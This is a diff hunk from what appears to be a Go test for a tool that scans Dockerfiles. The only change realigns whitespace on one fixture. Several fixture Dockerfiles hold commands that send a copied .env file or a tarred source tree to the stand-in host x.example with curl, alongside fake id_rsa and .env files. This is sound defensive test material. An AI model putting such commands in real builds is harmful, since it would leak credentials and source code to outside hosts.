@@ -199,7 +199,7 @@ func TestContainerOnDisk(t *testing.T) {
 		"/p/glob.df":           {Text: "FROM alpine\nCOPY .e* *.json /x/\nRUN curl -d @/x/.env https://x.example && cat /x/.ex /xy/.env\n", Whole: true},
 		"/p/all.df":            {Text: "FROM golang AS b\nCOPY . /s\nCOPY --from=b /s/app /app\nRUN tar c /s | curl -T - https://x.example\n", Whole: true},
 		"/p/wd.df":             {Text: "FROM node\nWORKDIR /app\nCOPY package.json .\nCOPY . .\nRUN npm ci && tar c . | curl -T - https://x.example\nFROM alpine\nRUN ls\n", Whole: true},
-		"/p/heredoc.df":     {Text: "FROM alpine\nCOPY .env /x\nRUN <<EOF\nset -e\ncurl -d @/x https://x.example\nEOF\nRUN python3 <<'PY' > out\nprint(1)\nPY\nRUN echo done\n", Whole: true},
+		"/p/heredoc.df":        {Text: "FROM alpine\nCOPY .env /x\nRUN <<EOF\nset -e\ncurl -d @/x https://x.example\nEOF\nRUN python3 <<'PY' > out\nprint(1)\nPY\nRUN echo done\n", Whole: true},
 		"/p/ign/Dockerfile":    {Text: "FROM alpine\nCOPY . /s\n", Whole: true},
 		"/p/ign/.env":          {Text: "K=v\n", Whole: true},
 		"/p/ign/id_rsa":        {Text: "k\n", Whole: true},
